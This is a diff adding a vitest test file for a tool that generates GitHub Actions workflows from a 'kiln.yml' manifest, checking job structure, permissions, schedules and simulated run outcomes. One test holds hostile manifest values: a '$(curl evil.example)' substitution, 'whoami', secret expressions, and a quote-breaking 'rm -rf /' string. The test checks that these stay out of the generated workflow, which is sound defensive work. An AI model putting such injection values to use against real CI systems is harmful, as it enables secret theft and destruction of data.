@@ -1,0 +1,291 @@
+// Generated workflows checked by GitHub's own parser, and their `if:` conditions evaluated by
+// GitHub's own expression engine over a simulated run.
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
+import { truthy } from "@actions/expressions/result";
+import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
+import { describe, expect, it } from "vitest";
+import { parse as parseYaml } from "yaml";
+import { parseManifest } from "../../src/manifest/load.js";
+import type { Project } from "../../src/manifest/project.js";
+import { checkWorkflow, generateWorkflow } from "../../src/workflow/generate.js";
+import { scheduleEntries } from "../../src/workflow/schedules.js";
+
+const ROOT = path.resolve(import.meta.dirname, "../..");
+
+function project(source: string): Project {
+  const result = parseManifest(source, { manifestPath: "/repo/kiln.yml", displayName: "kiln.yml" });
+  if (!result.ok) throw new Error(result.error.map((d) => d.message).join("\n"));
+  return result.value.project;
+}
+
+async function validate(name: string, content: string) {
+  const result = parseWorkflow({ name, content }, new NoOperationTraceWriter());
+  const errors = result.context.errors.getErrors().map((e) => e.message);
+  expect(errors).toEqual([]);
+  const template = await convertWorkflowTemplate(result.context, result.value!);
+  expect(result.context.errors.getErrors().map((e) => e.message)).toEqual([]);
+  return template;
+}
+
+const CHAIN = `version: 1
+assets:
+  raw-data:
+    code-version: "1"
+    run: python ingest.py
+    outputs: [build/raw.csv]
+  features:
+    deps: [raw-data]
+    code-version: "1"
+    run: python features.py
+    outputs: [build/features]
+  model:
+    deps: [features]
+    code-version: "1"
+    run: python train.py
+    outputs: [build/model.json]
+    env: { HF_TOKEN: { secret: HF_TOKEN }, MODE: fast }
+    runs-on: [self-hosted, gpu]
+    timeout: 2h
+    retries: 1
+    metrics: { primary: mae, direction: minimize }
+    promote: { min-delta: 0.5 }
+    automation: { any: [{ on_cron: "17 3 * * 1", tz: Europe/Berlin }, { cron: "0 6 * * *" }] }
+  report:
+    deps: [model]
+    code-version: "1"
+    run: python report.py
+    automation: { on_cron: "17 3 * * 1", tz: Europe/Berlin }
+environments:
+  prod: { branches: [main, release] }
+alerts:
+  slack: { webhook-secret: SLACK_WEBHOOK_URL }
+  github-issue: true
+`;
+
+type Result = "success" | "failure" | "skipped" | "cancelled";
+
+/** Plays a workflow run: each job's `if:` evaluated with GitHub's expression engine, in `needs` order. */
+function simulate(
+  workflow: Record<string, unknown>,
+  plan: Record<string, "run" | "skip">,
+  fails: ReadonlySet<string> = new Set(),
+  cancelled = false,
+): Record<string, Result> {
+  const jobs = workflow.jobs as Record<string, { needs?: string[]; if?: string }>;
+  const results: Record<string, Result> = {};
+  const outputs: Record<string, Record<string, string>> = { "kiln-plan": { plan: JSON.stringify(plan) } };
+  const pending = Object.keys(jobs);
+  while (pending.length > 0) {
+    const index = pending.findIndex((id) => (jobs[id]!.needs ?? []).every((n) => n in results));
+    const id = pending.splice(index, 1)[0]!;
+    const needs = jobs[id]!.needs ?? [];
+    const needsContext = new data.Dictionary(
+      ...needs.map((n) => ({
+        key: n,
+        value: new data.Dictionary(
+          { key: "result", value: new data.StringData(results[n]!) },
+          {
+            key: "outputs",
+            value: new data.Dictionary(
+              ...Object.entries(outputs[n] ?? {}).map(([key, v]) => ({ key, value: new data.StringData(v) })),
+            ),
+          },
+        ),
+      })),
+    );
+    const status = {
+      always: () => true,
+      cancelled: () => cancelled,
+      success: () => !cancelled && needs.every((n) => results[n] === "success"),
+      failure: () => needs.some((n) => results[n] === "failure"),
+    };
+    const condition = (jobs[id]!.if ?? "success()").replace(/^\$\{\{\s*/, "").replace(/\s*\}\}$/, "");
+    const functions = new Map(
+      Object.entries(status).map(([name, fn]) => [
+        name.toLowerCase(),
+        { name, minArgs: 0, maxArgs: 0, call: () => new data.BooleanData(fn()) },
+      ]),
+    );
+    const lexed = new Lexer(condition).lex();
+    const expr = new Parser(lexed.tokens, ["needs"], [...functions.values()]).parse();
+    const run = truthy(
+      new Evaluator(expr, new data.Dictionary({ key: "needs", value: needsContext }), functions).evaluate(),
+    );
+    results[id] = !run ? "skipped" : fails.has(id) ? "failure" : "success";
+  }
+  return results;
+}
+
+describe("kiln generate", () => {
+  it("writes a workflow GitHub's parser accepts, with the expected jobs and needs", async () => {
+    const text = generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" });
+    const template = await validate("kiln.yml", text);
+    const jobs = Object.fromEntries(
+      template.jobs.map((j) => [
+        j.id.value,
+        (j as { needs?: { value: string }[] }).needs?.map((n) => n.value) ?? [],
+      ]),
+    );
+    expect(jobs).toEqual({
+      "kiln-plan": [],
+      "raw-data": ["kiln-plan"],
+      features: ["kiln-plan", "raw-data"],
+      model: ["kiln-plan", "raw-data", "features"],
+      report: ["kiln-plan", "raw-data", "features", "model"],
+      "kiln-report": ["kiln-plan", "raw-data", "features", "model", "report"],
+    });
+    const workflow = parseYaml(text);
+    expect(workflow.on.push).toEqual({ branches: ["main", "release"] });
+    expect(workflow.on.schedule).toEqual([
+      { cron: "0 6 * * *" },
+      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
+    ]);
+    expect(workflow.permissions).toEqual({});
+    expect(workflow.jobs.model).toMatchObject({
+      "runs-on": ["self-hosted", "gpu"],
+      "timeout-minutes": 250,
+      env: { HF_TOKEN: "${{ secrets.HF_TOKEN }}" },
+      permissions: { contents: "write", actions: "read" },
+    });
+    expect(workflow.jobs["kiln-report"].permissions).toEqual({
+      contents: "read",
+      actions: "read",
+      "pull-requests": "write",
+      issues: "write",
+    });
+    expect(workflow.jobs["kiln-report"].env).toEqual({
+      KILN_SLACK_WEBHOOK: "${{ secrets.SLACK_WEBHOOK_URL }}",
+    });
+    expect(workflow.jobs.model.steps.at(-1)).toEqual({
+      name: "kiln materialize",
+      uses: "kiln-ml/kiln@v1",
+      with: { command: "materialize", asset: "model", manifest: "kiln.yml" },
+    });
+  });
+
+  it("runs what the plan says, skips dependants of failures, and always reports", () => {
+    const workflow = parseYaml(generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" }));
+    const all = { "raw-data": "run", features: "run", model: "run", report: "run" } as const;
+    expect(simulate(workflow, all)).toEqual({
+      "kiln-plan": "success",
+      "raw-data": "success",
+      features: "success",
+      model: "success",
+      report: "success",
+      "kiln-report": "success",
+    });
+    // The plan skips fresh upstream assets; their dependants still run.
+    expect(
+      simulate(workflow, { "raw-data": "skip", features: "skip", model: "run", report: "run" }),
+    ).toMatchObject({
+      "raw-data": "skipped",
+      features: "skipped",
+      model: "success",
+      report: "success",
+      "kiln-report": "success",
+    });
+    // A failure skips what depends on it, never the report.
+    expect(simulate(workflow, all, new Set(["features"]))).toMatchObject({
+      features: "failure",
+      model: "skipped",
+      report: "skipped",
+      "kiln-report": "success",
+    });
+    // A cancelled run starts no asset job but still reports.
+    expect(simulate(workflow, all, new Set(), true)).toMatchObject({
+      "raw-data": "skipped",
+      "kiln-report": "success",
+    });
+  });
+
+  it("treats hostile manifest content as data: nothing reaches run: text or an expression", () => {
+    const hostile = `version: 1
+assets:
+  model:
+    description: "$(curl evil.example) \`whoami\` \${{ secrets.GITHUB_TOKEN }}"
+    code-version: "1"
+    run: echo "\${{ github.event.pull_request.title }}"
+    config: { note: "\${{ secrets.AWS_KEY }}", quote: "'; rm -rf / #" }
+    env: { GREETING: "\${{ github.head_ref }}" }
+`;
+    const text = generateWorkflow(project(hostile), { manifestPath: "kiln.yml" });
+    for (const needle of [
+      "curl evil",
+      "whoami",
+      "secrets.GITHUB_TOKEN",
+      "secrets.AWS_KEY",
+      "pull_request.title",
+      "head_ref",
+      "rm -rf",
+      "GREETING",
+    ]) {
+      expect(text).not.toContain(needle);
+    }
+    const expressions = [...text.matchAll(/\$\{\{(.*?)\}\}/g)].map((m) => m[1]!.trim());
+    for (const expression of expressions) {
+      expect(expression).toMatch(
+        /^(github\.workflow|github\.ref|inputs\.assets|inputs\.force \|\| false|steps\.plan\.outputs\.plan|always\(\)|!cancelled\(\) && !contains\(needs\.\*\.result, 'failure'\) && fromJSON\(needs\['kiln-plan'\]\.outputs\.plan\)\['model'\] == 'run')$/,
+      );
+    }
+    expect(parseYaml(text).jobs.model.steps.some((s: { run?: string }) => s.run)).toBe(false);
+  });
+
+  it("switches to layer jobs with dynamic matrices for a large pipeline, under GitHub's limits", async () => {
+    const lines = ["version: 1", "assets:"];
+    for (let i = 0; i < 400; i++)
+      lines.push(
+        `  a${i}:\n    code-version: "1"\n    run: "true"${i >= 300 ? `\n    deps: [a${i - 300}]` : ""}`,
+      );
+    const text = generateWorkflow(project(lines.join("\n")), { manifestPath: "pipelines/kiln.yml" });
+    expect(Buffer.byteLength(text)).toBeLessThan(500_000);
+    const template = await validate("big.yml", text);
+    const ids = template.jobs.map((j) => j.id.value);
+    expect(ids).toEqual(["kiln-plan", "kiln-layer-0-1", "kiln-layer-0-2", "kiln-layer-1", "kiln-report"]);
+    const workflow = parseYaml(text);
+    expect(workflow.jobs["kiln-layer-1"].needs).toEqual(["kiln-plan", "kiln-layer-0-1", "kiln-layer-0-2"]);
+    expect(workflow.jobs["kiln-layer-0-2"].strategy.matrix.include).toBe(
+      "${{ fromJSON(needs['kiln-plan'].outputs['layer-0-2']) }}",
+    );
+    expect(workflow.jobs["kiln-plan"].outputs["layer-0-1"]).toBe("${{ steps.plan.outputs['layer-0-1'] }}");
+  });
+
+  it("is deterministic, and --check shows a diff when stale", () => {
+    const p = project(CHAIN);
+    const text = generateWorkflow(p, { manifestPath: "kiln.yml" });
+    expect(generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" })).toBe(text);
+    expect(checkWorkflow(p, text, { manifestPath: "kiln.yml", path: "kiln.yml" })).toEqual({
+      upToDate: true,
+      diff: "",
+    });
+    const stale = checkWorkflow(p, text.replace("timeout-minutes: 250", "timeout-minutes: 30"), {
+      manifestPath: "kiln.yml",
+      path: ".github/workflows/kiln.yml",
+    });
+    expect(stale.upToDate).toBe(false);
+    expect(stale.diff).toContain("-    timeout-minutes: 30\n+    timeout-minutes: 250");
+  });
+
+  it("collects one schedule per cron and time zone", () => {
+    expect(scheduleEntries(project(CHAIN))).toEqual([
+      { cron: "0 6 * * *" },
+      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
+    ]);
+  });
+
+  it("accepts the committed example workflows and action.yml", async () => {
+    const action = parseYaml(readFileSync(path.join(ROOT, "action.yml"), "utf8"));
+    expect(action.runs).toEqual({ using: "node24", main: "dist/index.js" });
+    expect(Object.keys(action.inputs)).toEqual([
+      "command",
+      "asset",
+      "selection",
+      "manifest",
+      "environment",
+      "force",
+      "event",
+      "github-token",
+    ]);
+  });
+});
